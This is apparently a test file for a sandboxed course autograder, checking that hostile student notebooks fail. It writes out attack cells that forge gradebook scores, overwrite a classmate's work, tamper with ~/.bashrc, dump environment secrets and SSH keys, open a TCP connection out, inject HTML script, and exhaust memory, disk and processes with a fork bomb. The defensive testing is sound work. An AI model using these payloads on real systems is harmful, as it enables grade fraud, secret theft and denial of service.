"""Grading a hostile class: the sandbox, the integrity checks and parallel grading.

A batch of chapter 3 submissions, graded as the instructor guide says (autograde, feedback,
export), two students at a time. Honest students come before and after the attackers.
Every attacker's notebook is the full solution plus one cell of attack, so each should get
exactly the 17 points its honest part earns, and nothing else: no forged grade, no file of
the course or of a classmate changed, no secret in any feedback page, no connection out,
no process left behind.

The attacks are the ones a review found working against the unsandboxed grader: a forged
gradebook (directly and from a detached process that waits for the grading lock), a
classmate's submission overwritten, the checks switched off by editing
``course_tools/checks.py``, a file of ``solutions/`` deleted, ``~/.bashrc`` written, the
environment, ``solutions/`` and the gradebook printed into the feedback, a TCP connection to
the grader's machine, 50 detached processes, 6 GiB of memory, a 1 GiB file, a fork bomb.
"""

from __future__ import annotations

import copy
import csv
import os
import socket
import threading
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import psutil
import pytest
from conftest import requires_sandbox
from test_grading import exercises_of, gradebook_scores, make_course, solve_exercises, submit

import course_tools
from course_tools.grading import (
    Course,
    GradingError,
    IntegrityError,
    autograde,
    export,
    feedback,
    main,
    sandbox,
    sha256_tree,
)

ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENT, NOTEBOOK = "ch03", "ch03_exercises"
SECRET = "instructor-token-9f3a1c"  # in the grader's environment: must reach no kernel
MARKER = "hostile-batch-4e7d"  # in the command line of every process an attacker starts

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not (ROOT / "solutions" / ASSIGNMENT).is_dir(), reason=f"no solutions/{ASSIGNMENT}"),
    requires_sandbox,
]


# ---------------------------------------------------------------------------------------
# The attacks: each is one code cell, added after the setup cell of a full solution
# ---------------------------------------------------------------------------------------


def attacks(course: Course, listener_port: int, home_marker: Path) -> dict[str, str]:
    """student -> the code of the attack cell. The attacker is assumed to know every path."""
    gradebook = course.root / "gradebook.db"
    victim = course.submitted / "a_honest" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    blank = course.release / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    checks = Path(course_tools.__file__).parent / "checks.py"
    solution = course.source / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    forge = (
        "from nbgrader.api import Gradebook\n"
        f"for url in ('sqlite:///{gradebook}', 'sqlite:///../../../gradebook.db'):\n"
        "    try:\n"
        "        with Gradebook(url, 'llm-from-scratch') as gb:\n"
        f"            for nb in gb.find_submission('{ASSIGNMENT}', 'a_honest').notebooks:\n"
        "                for grade in nb.grades:\n"
        "                    grade.manual_score = 0\n"
        "            gb.db.commit()\n"
        "        print('FORGED', url)\n"
        "    except Exception as error:\n"
        "        print('forge failed:', type(error).__name__)\n"
    )
    return {
        "b_forge": forge,
        "c_daemon": (
            "import subprocess, sys, textwrap\n"
            "code = textwrap.dedent('''\n"
            "    import time\n"
            "    time.sleep(1)\n"
            f"    {forge!r}\n"
            "    for _ in range(600):\n"
            "        time.sleep(0.5)\n"
            f"        exec({forge!r})\n"
            "''')\n"
            f"subprocess.Popen([sys.executable, '-c', code, '{MARKER}'], start_new_session=True,\n"
            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
            "print('daemon started')\n"
        ),
        "d_destroy": (
            "import shutil, os\n"
            f"for action in (lambda: shutil.copy({str(blank)!r}, {str(victim)!r}),\n"
            f"               lambda: open({str(checks)!r}, 'a').write('\\nexpect_close = lambda *a, **k: None\\n'),\n"
            f"               lambda: os.remove({str(solution)!r}),\n"
            f"               lambda: open({str(home_marker)!r}, 'w').write('export PATH=/tmp/evil:$PATH')):\n"
            "    try:\n"
            "        action(); print('DESTROYED')\n"
            "    except Exception as error:\n"
            "        print('destroy failed:', type(error).__name__)\n"
        ),
        "e_secrets": (
            "import os, glob\n"
            "print(dict(os.environ))\n"
            f"for path in [{str(solution)!r}, {str(gradebook)!r}, os.path.expanduser('~/.ssh/id_rsa'),\n"
            f"             *glob.glob({str(course.submitted)!r} + '/*/*/*.ipynb')]:\n"
            "    try:\n"
            "        print(open(path, errors='replace').read()[:20000])\n"
            "    except Exception as error:\n"
            "        print('read failed:', type(error).__name__)\n"
            "from IPython.display import HTML, display\n"
            "display(HTML('<script>document.title = \"pwned\"</script><b>hi</b>'))\n"
        ),
        "f_network": (
            "import socket, subprocess, sys\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {listener_port}), timeout=3).sendall(os.environ.get('X', '').encode() + b'{MARKER}')\n"
            "    print('CONNECTED')\n"
            "except Exception as error:\n"
            "    print('connect failed:', type(error).__name__)\n"
            "for _ in range(50):\n"
            f"    subprocess.Popen(['sh', '-c', 'sleep 600', '{MARKER}'], start_new_session=True)\n"
            "print('50 started')\n"
        ).replace("os.environ", "__import__('os').environ"),
        "g_hog": (
            "import os, time\n"
            "try:\n"
            "    hog = bytearray(6 * 2**30)\n"
            "    print('ALLOCATED 6 GiB')\n"
            "except MemoryError:\n"
            "    print('memory refused')\n"
            "try:\n"
            "    with open('big.bin', 'wb') as f:\n"
            "        for _ in range(1024):\n"
            "            f.write(b'x' * 2**20)\n"
            "    print('WROTE 1 GiB')\n"
            "except OSError as error:\n"
            "    print('write refused:', type(error).__name__)\n"
            "os.remove('big.bin') if os.path.exists('big.bin') else None\n"
            "children = 0\n"
            "try:\n"
            "    for _ in range(400):\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(60); os._exit(0)\n"
            "        children += 1\n"
            "except OSError:\n"
            "    pass\n"
            "print('forked', children)\n"
        ),
    }


HONEST = ("a_honest", "h_honest")
LINKER = "i_link"  # an honest notebook, and a link to a file of the grader's in the folder


class _Text(HTMLParser):
    """The text and the script elements of a page."""

    def __init__(self):
        super().__init__()
        self.parts, self.scripts, self._in_script = [], [], False

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self._in_script = True
            self.scripts.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data
        else:
            self.parts.append(data)


def parse(page: Path) -> _Text:
    parser = _Text()
    parser.feed(page.read_text(encoding="utf-8"))
    return parser


# ---------------------------------------------------------------------------------------
# The batch
# ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Course:
    return make_course(tmp_path_factory.mktemp("hostile"), [ASSIGNMENT])


class Listener:
    """A TCP server on 127.0.0.1 that records what reaches it (bounded: 1 s accept loop)."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(1.0)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(4096))
                except OSError:
                    self.received.append(b"(connected)")

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.server.close()


@pytest.fixture(scope="module")
def batch(course, tmp_path_factory):
    release = nbformat.read(course.release / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    source = nbformat.read(course.source / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    exercises = exercises_of(source)
    full = solve_exercises(release, source, range(len(exercises)))
    total = sum(exercise.points for exercise in exercises)
    setup_index = next(
        i
        for i, cell in enumerate(full.cells)
        if cell.get("metadata", {}).get("nbgrader", {}).get("locked") and cell.cell_type == "code"
    )

    listener = Listener()
    home_marker = Path.home() / f".bashrc-{MARKER}"
    home_marker.unlink(missing_ok=True)
    attack_code = attacks(course, listener.port, home_marker)
    for student in HONEST:
        submit(course, student, ASSIGNMENT, {f"{NOTEBOOK}.ipynb": full})
    # a link in a submission: nbgrader would copy what it points to into the graded folder
    secret_file = tmp_path_factory.mktemp("instructor") / "id_rsa"
    secret_file.write_text(SECRET)
    submit(course, LINKER, ASSIGNMENT, {f"{NOTEBOOK}.ipynb": full})
    (course.submitted / LINKER / ASSIGNMENT / "notes.txt").symlink_to(secret_file)
    for student, code in attack_code.items():
        notebook = copy.deepcopy(full)
        cell = nbformat.v4.new_code_cell(code)
        cell.pop("id", None) if notebook.get("nbformat_minor", 5) < 5 else None
        notebook.cells.insert(setup_index + 1, cell)
        # a markdown cell with the marker nbgrader's hiding looks for, and active HTML
        notebook.cells.append(
            nbformat.v4.new_markdown_cell("### BEGIN HIDDEN TESTS\n<img src=x onerror=\"document.title='pwned'\">")
        )
        submit(course, student, ASSIGNMENT, {f"{NOTEBOOK}.ipynb": notebook})

    protected = {
        "submitted": sha256_tree(course.submitted),
        "solutions": sha256_tree(course.source),
        "course_tools": sha256_tree(Path(course_tools.__file__).parent),
    }
    bashrc = Path.home() / ".bashrc"
    bashrc_before = bashrc.read_bytes() if bashrc.exists() else None
    os.environ["X"] = SECRET
    os.environ["INSTRUCTOR_TOKEN"] = SECRET
    try:
        started = time.monotonic()
        outcomes = autograde(course, ASSIGNMENT, timeout=60, jobs=2, echo=False)
        seconds = time.monotonic() - started
        time.sleep(2)  # a detached forger would act now, when the lock is free
        pages = {path.parent.parent.name: path for path in feedback(course, ASSIGNMENT, echo=False)}
        grades = export(course, to=tmp_path_factory.mktemp("export") / "grades.csv")
    finally:
        os.environ.pop("X", None)
        os.environ.pop("INSTRUCTOR_TOKEN", None)
        listener.close()
    survivors = [p.info for p in psutil.process_iter(["pid", "cmdline"]) if MARKER in " ".join(p.info["cmdline"] or [])]
    for info in survivors:  # never leave them running, even when the test fails
        try:
            psutil.Process(info["pid"]).kill()
        except psutil.NoSuchProcess:
            pass
    with open(grades, newline="", encoding="utf-8") as f:
        exported = {row["student_id"]: row for row in csv.DictReader(f) if row["assignment"] == ASSIGNMENT}
    return {
        "outcomes": {outcome.student: outcome for outcome in outcomes},
        "total": total,
        "seconds": seconds,
        "pages": pages,
        "exported": exported,
        "gradebook": gradebook_scores(course, ASSIGNMENT),
        "protected": protected,
        "survivors": survivors,
        "received": listener.received,
        "home_marker": home_marker,
        "bashrc": (bashrc, bashrc_before),
        "students": [*HONEST, *attack_code],
    }


def graded_output(course: Course, student: str) -> str:
    """Everything the attack cell printed, as the graded notebook has it."""
    notebook = nbformat.read(course.autograded / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    texts = []
    for cell in notebook.cells:
        for output in cell.get("outputs", []):
            texts.append(
                output.get("text", "") if output.get("output_type") == "stream" else str(output.get("data", ""))
            )
    return "\n".join(texts)


def test_every_student_gets_exactly_what_the_honest_work_earns_everywhere(batch):
    total = batch["total"]
    for student in batch["students"]:
        outcome = batch["outcomes"][student]
        assert outcome.score == total, f"{student}: {outcome.score} ({outcome.status}: {outcome.explanation})"
        assert batch["gradebook"][student]["total"] == total, student
        assert float(batch["exported"][student]["score"]) == total, student
        assert batch["exported"][student]["sandbox"] == "bubblewrap"
        text = " ".join("".join(parse(batch["pages"][student]).parts).split())
        assert f"Grading outcome: {total:g} of {total:g} points" in text, student


def test_forged_grades_fail_and_the_forger_process_does_not_survive(course, batch):
    assert "FORGED" not in graded_output(course, "b_forge")
    assert "forge failed" in graded_output(course, "b_forge")
    assert "daemon started" in graded_output(course, "c_daemon")
    assert batch["survivors"] == []


def test_nothing_of_the_course_or_of_a_classmate_changes(course, batch):
    output = graded_output(course, "d_destroy")
    assert "DESTROYED" not in output and output.count("destroy failed") == 4
    assert sha256_tree(course.submitted) == batch["protected"]["submitted"]
    assert sha256_tree(course.source) == batch["protected"]["solutions"]
    assert sha256_tree(Path(course_tools.__file__).parent) == batch["protected"]["course_tools"]
    assert not batch["home_marker"].exists()
    bashrc, before = batch["bashrc"]
    assert (bashrc.read_bytes() if bashrc.exists() else None) == before


def test_no_secret_reaches_a_feedback_page_and_no_script_runs_there(batch):
    clean = parse(batch["pages"]["a_honest"])
    for student, page in batch["pages"].items():
        html = page.read_text(encoding="utf-8")
        assert SECRET not in html, student
        assert "BEGIN SOLUTION" not in html, f"{student}'s page shows the solutions notebook"
        assert parse(page).scripts == clean.scripts, f"{student}'s page runs a script of its own"
        assert "onerror=" not in html, student
    output = " ".join(parse(batch["pages"]["e_secrets"]).parts)
    assert "read failed" in output  # the attack ran, and found nothing to read


def test_no_connection_leaves_the_sandbox(course, batch):
    assert batch["received"] == []
    assert "connect failed" in graded_output(course, "f_network")


def test_memory_disk_and_processes_are_limited(course, batch):
    output = graded_output(course, "g_hog")
    assert "memory refused" in output
    assert "write refused" in output
    forked = int(output.split("forked ")[1].split()[0])
    assert forked < 400


def test_a_link_in_a_submission_is_left_out_and_reported(course, batch):
    outcome = batch["outcomes"][LINKER]
    assert (outcome.status, outcome.score) == ("unsafe file", batch["total"])
    assert "notes.txt: not a plain file or folder (a link?), left out of the grading" in outcome.explanation
    assert not (course.autograded / LINKER / ASSIGNMENT / "notes.txt").exists()
    assert SECRET not in batch["pages"][LINKER].read_text(encoding="utf-8")


def test_the_batch_ran_two_at_a_time_and_said_so(batch):
    assert len(batch["outcomes"]) == len(batch["students"]) + 1  # and the student with a link
    assert all(outcome.sandboxed for outcome in batch["outcomes"].values())


# ---------------------------------------------------------------------------------------
# Without the sandbox, the integrity checks still catch a change, and name the student
# ---------------------------------------------------------------------------------------


def test_unsandboxed_grading_stops_at_the_student_who_changed_the_course(tmp_path):
    root = tmp_path / "unsafe"
    course = make_course(root, ["ch02"])
    release = nbformat.read(course.release / "ch02" / "ch02_exercises.ipynb", as_version=4)
    victim = course.source / "ch02" / "ch02_exercises.ipynb"
    attacker = copy.deepcopy(release)
    attacker.cells.append(nbformat.v4.new_code_cell(f"open({str(victim)!r}, 'a').write(' ')"))
    for student, notebook in {"a_honest": release, "b_attacker": attacker, "c_later": release}.items():
        submit(course, student, "ch02", {"ch02_exercises.ipynb": notebook})
    status = main(["--course-dir", str(root), "autograde", "ch02", "--jobs", "1", "--unsafe-no-sandbox"])
    assert status == 3
    with pytest.raises(
        IntegrityError, match=r"the grading of b_attacker changed .*solutions/ch02/ch02_exercises\.ipynb changed"
    ):
        autograde(course, "ch02", jobs=1, sandbox=False, echo=False, students=["b_attacker"])
    rows = (root / "reports" / "ch02_outcomes.csv").read_text(encoding="utf-8")
    assert "none (--unsafe-no-sandbox)" in rows


def test_grading_refuses_to_start_without_the_sandbox_and_says_how_to_get_it(tmp_path, monkeypatch, course):
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on the PATH
    monkeypatch.setattr(sandbox, "_CHECKED", {})
    with pytest.raises(GradingError, match=r"bubblewrap.*apt install bubblewrap.*--unsafe-no-sandbox"):
        autograde(course, ASSIGNMENT, echo=False)


def test_feedback_and_export_refuse_a_grade_changed_after_grading(course, batch, tmp_path):
    from nbgrader.api import Gradebook

    with Gradebook(course.db_url, course.course_id) as book:
        for notebook in book.find_submission(ASSIGNMENT, "h_honest").notebooks:
            for grade in notebook.grades:
                grade.manual_score = 0
        book.db.commit()
    try:
        from course_tools.grading import ExportDisputed, FeedbackIncomplete

        with pytest.raises(
            FeedbackIncomplete, match="h_honest: no page: the gradebook gives 0, the grading recorded 17"
        ):
            feedback(course, ASSIGNMENT, echo=False)
        assert not (course.root / "feedback" / "h_honest" / ASSIGNMENT).exists()
        assert (course.root / "feedback" / "a_honest" / ASSIGNMENT / f"{NOTEBOOK}.html").exists()
        with pytest.raises(ExportDisputed, match="h_honest, ch03: the gradebook gives 0"):
            export(course, to=tmp_path / "grades.csv")
        with open(tmp_path / "grades.csv", newline="", encoding="utf-8") as f:
            row = next(row for row in csv.DictReader(f) if row["student_id"] == "h_honest")
        assert (row["score"], row["status"]) == ("", "disputed")
    finally:
        with Gradebook(course.db_url, course.course_id) as book:
            for notebook in book.find_submission(ASSIGNMENT, "h_honest").notebooks:
                for grade in notebook.grades:
                    grade.manual_score = None
            book.db.commit()


# ---------------------------------------------------------------------------------------
# In parallel, the same grades as one at a time
# ---------------------------------------------------------------------------------------


def test_two_at_a_time_gives_the_grades_of_one_at_a_time(tmp_path):
    root = tmp_path / "parallel"
    course = make_course(root, ["ch02"])
    release = nbformat.read(course.release / "ch02" / "ch02_exercises.ipynb", as_version=4)
    source = nbformat.read(course.source / "ch02" / "ch02_exercises.ipynb", as_version=4)
    count = len(exercises_of(source))
    submissions = {
        "solutions": source,
        "blank": release,
        "odd": solve_exercises(release, source, range(0, count, 2)),
        "even": solve_exercises(release, source, range(1, count, 2)),
    }
    for student, notebook in submissions.items():
        submit(course, student, "ch02", {"ch02_exercises.ipynb": notebook})

    def grades(jobs):
        outcomes = autograde(course, "ch02", jobs=jobs, echo=False)
        report = {o.student: (o.score, o.status, o.explanation) for o in outcomes}
        return report, gradebook_scores(course, "ch02")

    serial, parallel = grades(1), grades(2)
    assert parallel == serial
    assert serial[0]["solutions"][0] == sum(e.points for e in exercises_of(source))
    assert serial[0]["blank"][0] == 0
